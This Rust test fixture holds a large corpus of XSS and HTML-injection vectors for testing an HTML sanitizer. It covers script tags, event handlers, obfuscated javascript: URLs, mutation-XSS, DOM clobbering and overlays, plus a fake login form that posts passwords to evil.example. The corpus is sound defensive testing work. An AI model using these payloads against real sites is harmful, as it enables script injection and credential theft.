//! The hostile corpus: release HTML written to get script into the page, or
//! markup, URLs and styles out of the card. Shared by the native tests
//! (`tests/sanitize_native.rs`, html5ever) and the in-browser tests
//! (`tests/web_sanitize.rs`, DOMParser and the full widget).
//!
//! Every vector that could execute calls the token `TRAP()`, which
//! [`vector`] replaces with `__syndicardTrap(<index>)`: the in-browser tests
//! define that global and assert it is never called. Images point at
//! `http://127.0.0.1:9/` (nothing listens there), or are relative to a base
//! on that origin, so an `onerror` that survived would fire.
#![allow(dead_code)]

/// The placeholder a vector calls; see [`vector`].
pub const TOKEN: &str = "TRAP()";

/// The global the in-browser tests define.
pub const TRAP: &str = "__syndicardTrap";

/// The release link hostile bodies are resolved against.
pub const BASE: &str = "http://127.0.0.1:9/releases/hostile.html";

/// `(family, HTML)`, one row per vector.
pub const VECTORS: &[(&str, &str)] = &[
    // ---- script elements -------------------------------------------------
    (
        "script",
        r#"<p>before</p><script>TRAP()</script><p>after</p>"#,
    ),
    (
        "script",
        r#"<SCRIPT SRC="data:text/javascript,TRAP()"></SCRIPT>"#,
    ),
    ("script", r#"<scr<script>ipt>TRAP()</script>"#),
    ("script", r#"<script type="module">TRAP()</script>"#),
    ("script", r#"<script/src="data:,TRAP()"></script>"#),
    ("script", r#"<<script>TRAP()//<</script>"#),
    (
        "script",
        r#"<p>x<script>document.write('<img src=x onerror=TRAP()>')</script></p>"#,
    ),
    // ---- event handlers, one row per family ------------------------------
    (
        "handler-load",
        r#"<img src="http://127.0.0.1:9/a.png" onerror="TRAP()" onload="TRAP()">"#,
    ),
    ("handler-load", r#"<img src=x onerror=TRAP()>"#),
    ("handler-load", r#"<img src=x OnErRoR=TRAP()>"#),
    ("handler-load", r#"<img/src=x/onerror=TRAP()>"#),
    ("handler-load", "<img src=x\nonerror\n=\nTRAP()>"),
    (
        "handler-load",
        r#"<body onload="TRAP()"><p>body</p></body>"#,
    ),
    (
        "handler-load",
        r#"<svg onload="TRAP()"><circle r="4"/></svg>"#,
    ),
    (
        "handler-load",
        r#"<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="TRAP()">"#,
    ),
    (
        "handler-mouse",
        r#"<p onclick="TRAP()" onmouseover="TRAP()" onmouseenter="TRAP()" ondblclick="TRAP()">hover me</p>"#,
    ),
    (
        "handler-pointer",
        r#"<a href="https://ok.example/" onpointerenter="TRAP()" onpointerdown="TRAP()">link</a>"#,
    ),
    (
        "handler-touch",
        r#"<div ontouchstart="TRAP()" ontouchend="TRAP()">touch</div>"#,
    ),
    (
        "handler-keyboard",
        r#"<div contenteditable onkeydown="TRAP()" onkeyup="TRAP()" onbeforeinput="TRAP()">type</div>"#,
    ),
    (
        "handler-focus",
        r#"<input autofocus onfocus="TRAP()"><p tabindex="0" autofocus onfocus="TRAP()" onfocusin="TRAP()">f</p>"#,
    ),
    (
        "handler-form",
        r#"<form onsubmit="TRAP()" oninput="TRAP()" onchange="TRAP()" onreset="TRAP()"><input required oninvalid="TRAP()"><button>go</button></form>"#,
    ),
    (
        "handler-media",
        r#"<audio src="http://127.0.0.1:9/a.mp3" onerror="TRAP()" onloadstart="TRAP()"></audio><video><source src="http://127.0.0.1:9/v.mp4" onerror="TRAP()"></video>"#,
    ),
    (
        "handler-animation",
        r#"<div style="animation:x 1s" onanimationstart="TRAP()" onanimationend="TRAP()">anim</div>"#,
    ),
    (
        "handler-transition",
        r#"<p style="transition:all 1ms" ontransitionend="TRAP()" ontransitionrun="TRAP()">tr</p>"#,
    ),
    (
        "handler-toggle",
        r#"<details open ontoggle="TRAP()"><summary>s</summary>d</details>"#,
    ),
    (
        "handler-toggle",
        r#"<div popover id="p" onbeforetoggle="TRAP()" ontoggle="TRAP()">pop</div>"#,
    ),
    (
        "handler-drag",
        r#"<p draggable="true" ondragstart="TRAP()" ondrop="TRAP()">drag</p>"#,
    ),
    (
        "handler-clipboard",
        r#"<p oncopy="TRAP()" oncut="TRAP()" onpaste="TRAP()">copy</p>"#,
    ),
    (
        "handler-scroll",
        r#"<div style="overflow:auto;height:1px" onscroll="TRAP()" onwheel="TRAP()">a<br>b<br>c</div>"#,
    ),
    (
        "handler-window",
        r#"<body onpageshow="TRAP()" onhashchange="TRAP()" onmessage="TRAP()" onresize="TRAP()" onafterprint="TRAP()">w</body>"#,
    ),
    (
        "handler-selection",
        r#"<p onselectstart="TRAP()" oncontextmenu="TRAP()">sel</p>"#,
    ),
    (
        "handler-svg",
        r#"<svg><animate onbegin="TRAP()" attributeName="x" dur="1s"/></svg>"#,
    ),
    (
        "handler-svg",
        r#"<svg><set attributeName="onmouseover" to="TRAP()"/></svg>"#,
    ),
    (
        "handler-legacy",
        r#"<marquee onstart="TRAP()">m</marquee><frameset onload="TRAP()">"#,
    ),
    (
        "handler-attribute-break",
        r#"<img src="http://127.0.0.1:9/b.png" alt="&quot; onerror=&quot;TRAP()">"#,
    ),
    (
        "handler-attribute-break",
        r#"<a href="https://ok.example/" title='x" onmouseover="TRAP()'>t</a>"#,
    ),
    // ---- URLs: javascript/data/vbscript with case, entity, space tricks ---
    ("url", r#"<a href="javascript:TRAP()">js</a>"#),
    ("url", r#"<a href="JaVaScRiPt:TRAP()">case</a>"#),
    (
        "url",
        r#"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;TRAP()">dec</a>"#,
    ),
    (
        "url",
        r#"<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;TRAP()">hex</a>"#,
    ),
    (
        "url",
        r#"<a href="&#0000106&#0000097vascript:TRAP()">padded</a>"#,
    ),
    ("url", r#"<a href="javascript&colon;TRAP()">colon</a>"#),
    ("url", r#"<a href="java&Tab;script:TRAP()">tab-entity</a>"#),
    ("url", "<a href=\"java\tscript:TRAP()\">tab</a>"),
    ("url", "<a href=\"java\nscript:TRAP()\">newline</a>"),
    ("url", r#"<a href="java&#13;script:TRAP()">cr</a>"#),
    (
        "url",
        r#"<a href="java&NewLine;script:TRAP()">newline-entity</a>"#,
    ),
    (
        "url",
        r#"<a href=" &#14;  javascript:TRAP()">leading-control</a>"#,
    ),
    (
        "url",
        "<a href=\"\u{1}\u{7f}javascript:TRAP()\">controls</a>",
    ),
    ("url", r#"<a href="javascript://%0ATRAP()">comment</a>"#),
    (
        "url",
        r#"<a href="vbscript:TRAP()">vb</a><a href="VbScRiPt:TRAP()">vb</a>"#,
    ),
    (
        "url",
        r#"<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19zeW5kaWNhcmRUcmFwKCk8L3NjcmlwdD4=">data</a>"#,
    ),
    (
        "url",
        r#"<a href="data:text/html,<script>parent.TRAP()</script>">data-html</a>"#,
    ),
    (
        "url",
        r#"<a href=" DaTa:text/html,<script>parent.TRAP()</script>">data-case</a>"#,
    ),
    (
        "url",
        r#"<img src="javascript:TRAP()"><img src="JAVASCRIPT:TRAP()">"#,
    ),
    (
        "url",
        r#"<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9fc3luZGljYXJkVHJhcCgpIi8+">"#,
    ),
    (
        "url",
        r#"<img src="mailto:a@b.example"><img src="//127.0.0.1:9/proto-relative.png">"#,
    ),
    (
        "url",
        r#"<img srcset="javascript:TRAP() 1x, http://127.0.0.1:9/s.png 2x" src="http://127.0.0.1:9/c.png">"#,
    ),
    (
        "url",
        r#"<a href="feed:javascript:TRAP()">feed</a><a href="blob:javascript:TRAP()">blob</a>"#,
    ),
    (
        "url",
        r#"<a xlink:href="javascript:TRAP()">xlink</a><q cite="javascript:TRAP()">q</q>"#,
    ),
    (
        "url",
        r#"<a href="https://ok.example/" ping="http://127.0.0.1:9/ping" target="_self" rel="opener">ping</a>"#,
    ),
    (
        "url",
        r##"<img src="http://127.0.0.1:9/d.png" longdesc="javascript:TRAP()" usemap="#m" ismap>"##,
    ),
    (
        "url",
        r#"<video poster="javascript:TRAP()"></video><bgsound src="javascript:TRAP()">"#,
    ),
    (
        "url",
        r#"<a href="&#1;jav&#x09;ascript&#x3a;TRAP()">mixed</a>"#,
    ),
    // ---- URLs led by Unicode white space or format characters: dropped,
    // never resolved as relative paths (no kept URL may hold NEVER_KEPT) ----
    (
        "url-invisible",
        r#"<a href="&#xA0;javascript:TRAP()//never-kept">ua0</a><img src="&#xA0;never-kept/TRAP().png"><a href="&#x1680;javascript:TRAP()//never-kept">u1680</a><img src="&#x1680;never-kept/TRAP().png"><a href="&#x180E;javascript:TRAP()//never-kept">u180e</a><img src="&#x180E;never-kept/TRAP().png"><a href="&#x2000;javascript:TRAP()//never-kept">u2000</a><img src="&#x2000;never-kept/TRAP().png"><a href="&#x2001;javascript:TRAP()//never-kept">u2001</a><img src="&#x2001;never-kept/TRAP().png">"#,
    ),
    (
        "url-invisible",
        r#"<a href="&#x2002;javascript:TRAP()//never-kept">u2002</a><img src="&#x2002;never-kept/TRAP().png"><a href="&#x2003;javascript:TRAP()//never-kept">u2003</a><img src="&#x2003;never-kept/TRAP().png"><a href="&#x2004;javascript:TRAP()//never-kept">u2004</a><img src="&#x2004;never-kept/TRAP().png"><a href="&#x2005;javascript:TRAP()//never-kept">u2005</a><img src="&#x2005;never-kept/TRAP().png"><a href="&#x2006;javascript:TRAP()//never-kept">u2006</a><img src="&#x2006;never-kept/TRAP().png">"#,
    ),
    (
        "url-invisible",
        r#"<a href="&#x2007;javascript:TRAP()//never-kept">u2007</a><img src="&#x2007;never-kept/TRAP().png"><a href="&#x2008;javascript:TRAP()//never-kept">u2008</a><img src="&#x2008;never-kept/TRAP().png"><a href="&#x2009;javascript:TRAP()//never-kept">u2009</a><img src="&#x2009;never-kept/TRAP().png"><a href="&#x200A;javascript:TRAP()//never-kept">u200a</a><img src="&#x200A;never-kept/TRAP().png"><a href="&#x200B;javascript:TRAP()//never-kept">u200b</a><img src="&#x200B;never-kept/TRAP().png">"#,
    ),
    (
        "url-invisible",
        r#"<a href="&#x2028;javascript:TRAP()//never-kept">u2028</a><img src="&#x2028;never-kept/TRAP().png"><a href="&#x2029;javascript:TRAP()//never-kept">u2029</a><img src="&#x2029;never-kept/TRAP().png"><a href="&#x205F;javascript:TRAP()//never-kept">u205f</a><img src="&#x205F;never-kept/TRAP().png"><a href="&#x3000;javascript:TRAP()//never-kept">u3000</a><img src="&#x3000;never-kept/TRAP().png"><a href="&#xFEFF;javascript:TRAP()//never-kept">ufeff</a><img src="&#xFEFF;never-kept/TRAP().png">"#,
    ),
    (
        "url-invisible",
        "<a href=\" \u{a0}\u{2003}javascript:TRAP()//never-kept\">raw</a><a href=\"\u{feff}/never-kept/TRAP()\">bom-path</a><img src=\"\u{3000}never-kept/TRAP().png\">",
    ),
    (
        "url-invisible",
        r#"<a href="&nbsp;javascript:TRAP()//never-kept">nbsp</a><a href="&ensp;&emsp;never-kept/TRAP()">ensp</a><a href="&ZeroWidthSpace;never-kept/TRAP()">zwsp</a><a href="&NoBreak;never-kept/TRAP()">wj</a>"#,
    ),
    // ---- mutation XSS carriers -------------------------------------------
    (
        "mxss",
        r#"<noscript><p title="</noscript><img src=x onerror=TRAP()>"></noscript>"#,
    ),
    ("mxss", r#"<style><img src=x onerror=TRAP()></style>"#),
    (
        "mxss",
        r#"<svg><style><img src=x onerror=TRAP()></style></svg>"#,
    ),
    (
        "mxss",
        r#"<svg></p><style><a id="</style><img src=1 onerror=TRAP()>">"#,
    ),
    (
        "mxss",
        r#"<math><mtext><table><mglyph><style><img src=x onerror=TRAP()></style></mglyph></table></mtext></math>"#,
    ),
    (
        "mxss",
        r#"<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=TRAP()>">"#,
    ),
    (
        "mxss",
        r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=TRAP()>"#,
    ),
    (
        "mxss",
        r#"<math><annotation-xml encoding="text/html"><img src=x onerror=TRAP()></annotation-xml></math>"#,
    ),
    (
        "mxss",
        r#"<svg><foreignObject><iframe srcdoc="<script>parent.TRAP()</script>"></iframe><img src=x onerror=TRAP()></foreignObject></svg>"#,
    ),
    (
        "mxss",
        r#"<svg><desc><img src=x onerror=TRAP()></desc><text>label</text></svg>"#,
    ),
    (
        "mxss",
        r#"<svg><![CDATA[><img src=x onerror=TRAP()>]]></svg>"#,
    ),
    (
        "mxss",
        r#"<svg><script>TRAP()</script><script href="data:,TRAP()"/></svg>"#,
    ),
    (
        "mxss",
        r#"<svg><a xlink:href="javascript:TRAP()"><text x="20" y="20">click</text></a></svg>"#,
    ),
    (
        "mxss",
        r#"<svg><image href="x" onerror="TRAP()"/><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='parent.TRAP()'/&gt;&lt;/svg&gt;#x"/></svg>"#,
    ),
    (
        "mxss",
        r#"<math href="javascript:TRAP()">click</math><math><maction actiontype="statusline" xlink:href="javascript:TRAP()">m</maction></math>"#,
    ),
    ("mxss", r#"<template><img src=x onerror=TRAP()></template>"#),
    (
        "mxss",
        r#"<div><template shadowrootmode="open"><img src=x onerror=TRAP()></template></div>"#,
    ),
    (
        "mxss",
        r#"<select><template><img src=x onerror=TRAP()></template></select>"#,
    ),
    (
        "mxss",
        r#"<xmp><img src=x onerror=TRAP()></xmp><textarea><img src=x onerror=TRAP()></textarea>"#,
    ),
    (
        "mxss",
        r#"<title><img src=x onerror=TRAP()></title><noembed><img src=x onerror=TRAP()></noembed><noframes><img src=x onerror=TRAP()></noframes>"#,
    ),
    ("mxss", r#"<iframe><img src=x onerror=TRAP()></iframe>"#),
    ("mxss", r#"<plaintext><img src=x onerror=TRAP()>"#),
    (
        "mxss",
        r#"<!--<img src=x onerror=TRAP()>--><!-- --!><img src=x onerror=TRAP()>-->"#,
    ),
    (
        "mxss",
        r#"<![CDATA[<img src=x onerror=TRAP()>]]><?xml-stylesheet href="javascript:TRAP()"?>"#,
    ),
    (
        "mxss",
        r#"<table><img src=x onerror=TRAP()><tr><td>cell</td></tr></table>"#,
    ),
    (
        "mxss",
        r#"<p>&lt;script&gt;TRAP()&lt;/script&gt; &lt;img src=x onerror=TRAP()&gt;</p>"#,
    ),
    (
        "mxss",
        r#"<a href="https://ok.example/">&lt;img src=x onerror=TRAP()&gt;</a><p>&amp;lt;script&amp;gt;</p>"#,
    ),
    // ---- forms, nested and otherwise -------------------------------------
    (
        "form",
        r#"<form id="a"><form><input name="x" autofocus onfocus="TRAP()"></form></form>"#,
    ),
    (
        "form",
        r#"<form action="javascript:TRAP()"><input type="submit"><button formaction="javascript:TRAP()">b</button></form>"#,
    ),
    (
        "form",
        r#"<form action="https://evil.example/steal" method="post"><p>Session expired, sign in:</p><input type="password" name="pw" placeholder="Password"><input type="image" src="x" onerror="TRAP()"></form>"#,
    ),
    (
        "form",
        r#"<isindex action="javascript:TRAP()" type="submit"><keygen autofocus onfocus="TRAP()">"#,
    ),
    // ---- base, meta, link, frames, plugins -------------------------------
    (
        "embed",
        r#"<base href="javascript:TRAP()//"><a href="/x">relative after base</a>"#,
    ),
    (
        "embed",
        r#"<base href="https://evil.example/"><a href="/story">story</a><img src="/pic.png">"#,
    ),
    (
        "embed",
        r#"<meta http-equiv="refresh" content="0;url=javascript:TRAP()"><meta http-equiv="Content-Security-Policy" content="script-src *">"#,
    ),
    (
        "embed",
        r#"<meta charset="utf-7">+ADw-script+AD4-TRAP()+ADw-/script+AD4-"#,
    ),
    (
        "embed",
        r#"<link rel="stylesheet" href="http://127.0.0.1:9/evil.css"><link rel="preload" as="style" href="x" onload="TRAP()" onerror="TRAP()">"#,
    ),
    (
        "embed",
        r#"<iframe src="javascript:TRAP()"></iframe><iframe srcdoc="<script>parent.TRAP()</script>"></iframe>"#,
    ),
    (
        "embed",
        r#"<object data="javascript:TRAP()"></object><embed src="javascript:TRAP()"><applet code="x"></applet>"#,
    ),
    (
        "embed",
        r#"<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19zeW5kaWNhcmRUcmFwKCk8L3NjcmlwdD4="><param name="x" value="y"></object>"#,
    ),
    (
        "embed",
        r#"<portal src="javascript:TRAP()"></portal><fencedframe></fencedframe><frame src="javascript:TRAP()">"#,
    ),
    (
        "embed",
        r#"<style>@import 'http://127.0.0.1:9/x.css'; p { background: url(javascript:TRAP()) }</style><p>styled</p>"#,
    ),
    // ---- DOM clobbering ----------------------------------------------------
    (
        "clobber",
        r#"<a id="__syndicardTrap" name="__syndicardTrap" href="https://ok.example/">x</a>"#,
    ),
    (
        "clobber",
        r#"<form name="body"><input name="cookie"></form><img name="getElementById" src="http://127.0.0.1:9/e.png">"#,
    ),
    (
        "clobber",
        r#"<a id="defaultView"></a><embed name="currentScript"><object id="location"></object>"#,
    ),
    (
        "clobber",
        r#"<a id="x"></a><a id="x" name="y" href="cid:TRAP()">dup</a>"#,
    ),
    (
        "clobber",
        r#"<form id="attributes"><input id="attributes"></form><img name="createElement" src="http://127.0.0.1:9/f.png">"#,
    ),
    (
        "clobber",
        r#"<iframe name="parent"></iframe><div id="syndicard" class="card" part="card">fake card</div>"#,
    ),
    // ---- overlays, styles, layout hijacks --------------------------------
    (
        "overlay",
        r#"<div style="position:fixed;inset:0;z-index:2147483647;background:red">OVERLAY</div>"#,
    ),
    (
        "overlay",
        r#"<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh">click anywhere</a>"#,
    ),
    (
        "overlay",
        r#"<style>*{position:fixed!important}</style><p class="overlay" id="o">cls</p>"#,
    ),
    (
        "overlay",
        r#"<dialog open>modal</dialog><div popover="manual">pop</div>"#,
    ),
    (
        "overlay",
        r#"<p style="background:url(javascript:TRAP())">bg</p><div style="behavior:url(x.htc);width:expression(TRAP())">ie</div>"#,
    ),
    (
        "overlay",
        r#"<img src="http://127.0.0.1:9/g.png" width="99999" height="99999" style="position:absolute"><font size="7" color="red" face="x">font</font>"#,
    ),
    (
        "overlay",
        r#"<span style="display:none">hidden spam</span><div hidden>hidden div</div><p style="visibility: hidden">invisible</p>"#,
    ),
    (
        "overlay",
        r#"<marquee behavior="alternate">moving</marquee><blink>blink</blink>"#,
    ),
    // ---- custom elements, slots, attribute overrides, pixels --------------
    (
        "misc",
        r#"<slot name="x"></slot><syndi-card feed="javascript:TRAP()"></syndi-card><div data-syndicard data-feed="javascript:TRAP()">d</div>"#,
    ),
    (
        "misc",
        r#"<img src="http://127.0.0.1:9/h.png" referrerpolicy="unsafe-url" loading="eager" decoding="sync" crossorigin="use-credentials">"#,
    ),
    (
        "misc",
        r#"<img src="http://127.0.0.1:9/pixel.gif" width="1" height="1"><img src="http://127.0.0.1:9/p2.gif" width="0" height="0"><img src="http://127.0.0.1:9/p3.gif" style="display:none">"#,
    ),
    (
        "misc",
        r#"<p lang="en&quot;><img src=x onerror=TRAP()>" dir="rtl;color:red" accesskey="x" tabindex="1" contenteditable>attrs</p>"#,
    ),
    (
        "misc",
        r#"<h1 class="x" id="h">Heading</h1><table border="1" style="width:9999px"><tr><td colspan="100000" rowspan="2" onclick="TRAP()">c</td></tr></table>"#,
    ),
    (
        "misc",
        r#"<xss onafterscriptexecute="TRAP()"><script>1</script></xss><layer src="javascript:TRAP()"></layer>"#,
    ),
];

/// Hostile URLs for the feed's own link and image fields (as the feed
/// yields them, after its own unescaping). (The feed trims white space,
/// Unicode's included, around a field's text, so a field led by a
/// no-break space is read without it: the ones here are refused for their
/// scheme then too.)
pub const URLS: &[&str] = &[
    "javascript:TRAP()",
    "JaVaScRiPt:TRAP()",
    " \u{1}javascript:TRAP()",
    "java\tscript:TRAP()",
    "java\nscript:TRAP()",
    "vbscript:TRAP()",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19zeW5kaWNhcmRUcmFwKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.TRAP()'/>",
    "mailto:press@wire.example",
    "feed:javascript:TRAP()",
    "//127.0.0.1:9/scheme-relative",
    "\"><img src=x onerror=TRAP()>",
    "\u{a0}javascript:TRAP()//never-kept",
    "\u{1680}javascript:TRAP()//never-kept",
    "\u{180e}javascript:TRAP()//never-kept",
    "\u{2000}javascript:TRAP()//never-kept",
    "\u{2007}javascript:TRAP()//never-kept",
    "\u{200b}javascript:TRAP()//never-kept",
    "\u{2028}javascript:TRAP()//never-kept",
    "\u{2029}javascript:TRAP()//never-kept",
    "\u{205f}javascript:TRAP()//never-kept",
    "\u{3000}javascript:TRAP()//never-kept",
    "\u{feff}javascript:TRAP()//never-kept",
    " \u{a0}\u{3000}javascript:TRAP()//never-kept",
];

/// A mark in URLs that must be dropped, not resolved: every layer checks
/// that no URL the sanitizer kept (`href`, `src` in release HTML) holds it
/// (see [`never_kept`]), which the scheme checks alone cannot tell (a
/// relative path led by a no-break space resolves to a harmless-looking
/// `http:` URL). (A whole vector used as a feed's image field is a
/// relative URL like any other; the mark means nothing there.)
pub const NEVER_KEPT: &str = "never-kept";

/// Whether a URL the sanitizer kept is one it should have dropped.
pub fn never_kept(url: &str) -> bool {
    url.contains(NEVER_KEPT)
}

/// Vector `i` with its trap call numbered.
pub fn vector(i: usize) -> String {
    numbered(VECTORS[i].1, i)
}

/// `text` with every `TRAP()` replaced by a call of the global trap with `i`.
pub fn numbered(text: &str, i: usize) -> String {
    text.replace(TOKEN, &format!("{TRAP}({i})"))
}
